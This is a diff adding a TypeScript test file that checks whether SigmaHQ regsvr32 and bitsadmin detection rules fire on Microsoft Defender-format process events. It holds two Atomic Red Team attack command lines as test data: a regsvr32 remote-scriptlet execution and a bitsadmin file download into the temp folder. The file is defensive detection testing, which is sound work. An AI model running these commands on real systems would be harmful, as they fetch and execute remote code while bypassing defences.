@@ -1,0 +1,99 @@
+// The seed's two Atomic command lines (regsvr32 scriptlet, bitsadmin transfer) as each vendor
+// format writes them fire the same SigmaHQ rules as their Sysmon form, decoded from the wire
+// shape through decodeRecord (so detection, normalization and the format's field mapping all
+// take part); benign look-alikes fire none of them. Skipped without the SigmaHQ corpus.
+import {readdirSync} from 'node:fs';
+import {join} from 'node:path';
+import {beforeAll, describe, expect, it} from 'vitest';
+import {decodeRecord, type DecodedEvent} from '../../../source/core/formats/index.js';
+import {loadRules, type RuleEngine} from '../../../source/core/rules/index.js';
+import {initiating, mdeMessage, mdeRecord} from '../../fixtures/formats/mde.js';
+import {sigmaCorpus} from '../../helpers/sigma-corpus.js';
+import {only} from '../../helpers/lists.js';
+
+const corpus = sigmaCorpus();
+let engine: RuleEngine;
+
+const CMD = 'C:\\Windows\\System32\\cmd.exe';
+const REGSVR32 = 'C:\\Windows\\System32\\regsvr32.exe';
+const BITSADMIN = 'C:\\Windows\\System32\\bitsadmin.exe';
+const T1218_010 =
+	'regsvr32.exe /s /u /i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct scrobj.dll';
+const T1197 =
+	'bitsadmin.exe /transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md %temp%\\bitsadmin1_flag.ps1';
+
+/** A process creation of `image` with `cmdline`, started by cmd.exe, as each format's wire message. */
+type Shape = (image: string, cmdline: string) => string;
+
+const basename = (p: string) => p.slice(p.lastIndexOf('\\') + 1);
+
+const SHAPES: Record<string, Shape> = {
+	mde: (image, cmdline) =>
+		mdeMessage(
+			mdeRecord('DeviceProcessEvents', {
+				ActionType: 'ProcessCreated',
+				FileName: basename(image),
+				FolderPath: image.toLowerCase(),
+				ProcessCommandLine: cmdline,
+				ProcessId: 4200,
+				AccountDomain: 'corp',
+				AccountName: 'alice',
+				ProcessVersionInfoOriginalFileName: basename(image).toUpperCase(),
+				...initiating({file: 'cmd.exe', folder: CMD.toLowerCase(), cmd: `cmd.exe /c "${cmdline}"`, pid: 4100}),
+			}),
+		),
+};
+
+function decoded(shape: Shape, image: string, cmdline: string): DecodedEvent {
+	return only(decodeRecord({value: shape(image, cmdline), receivedAt: 1}));
+}
+
+const REGSVR32_RULES = ['867356ee-9352-41c9-a8f2-1be690d78216', 'b236190c-1c61-41e9-84b3-3fe03f6d76b0'];
+const BITSADMIN_RULES = [
+	'd059842b-6b9d-4ed1-b5c3-5b89143c6ede',
+	'5b80a791-ad9b-4b75-bcc1-ad4e1e89c200',
+	'2ddef153-167b-4e89-86b6-757a9e65dcac',
+];
+const BUILTIN = ['ad5c66a0-25b4-4970-bf2c-a9f5ff38ec04', '4ed0461c-2bab-406e-ad9a-1d453e1aebb7'];
+
+describe.skipIf(!corpus.root)('SigmaHQ regsvr32 and bitsadmin rules on each vendor format', () => {
+	beforeAll(() => {
+		const dir = join(corpus.root!, 'windows', 'process_creation');
+		const files = readdirSync(dir)
+			.filter(f => /^proc_creation_win_(regsvr32|bitsadmin)_/.test(f))
+			.map(f => join(dir, f));
+		({engine} = loadRules(files));
+	});
+
+	for (const [format, shape] of Object.entries(SHAPES)) {
+		it(`${format}: T1218.010 hits the regsvr32 rules and the built-in`, () => {
+			const ev = decoded(shape, REGSVR32, T1218_010);
+			expect(ev.format).toBe(format);
+			const ids = engine.evaluate(ev).map(h => h.id);
+			for (const id of [...REGSVR32_RULES, BUILTIN[0]!]) expect(ids).toContain(id);
+		});
+
+		it(`${format}: T1197 hits the bitsadmin download rules and the built-in`, () => {
+			const hits = engine.evaluate(decoded(shape, BITSADMIN, T1197));
+			const ids = hits.map(h => h.id);
+			for (const id of [...BITSADMIN_RULES, BUILTIN[1]!]) expect(ids).toContain(id);
+			const download = hits.find(h => h.id === 'd059842b-6b9d-4ed1-b5c3-5b89143c6ede')!;
+			const cl = download.fields.find(f => f.field === 'CommandLine')!;
+			expect(cl.spans.map(([s, e]) => cl.value.slice(s, e).toLowerCase())).toContain(' /transfer ');
+		});
+
+		it(`${format}: benign regsvr32 and bitsadmin use hits none of those rules`, () => {
+			const all = [...REGSVR32_RULES, ...BITSADMIN_RULES, ...BUILTIN];
+			const benign = [
+				decoded(
+					shape,
+					REGSVR32,
+					'regsvr32.exe /s "C:\\Program Files\\Common Files\\microsoft shared\\ink\\tiptsf.dll"',
+				),
+				decoded(shape, BITSADMIN, 'bitsadmin.exe /list /allusers'),
+				decoded(shape, 'C:\\Windows\\System32\\svchost.exe', 'svchost.exe -k netsvcs -p -s BITS'),
+			];
+			for (const ev of benign) expect(engine.evaluate(ev).filter(h => all.includes(h.id))).toEqual([]);
+		});
+	}
+});
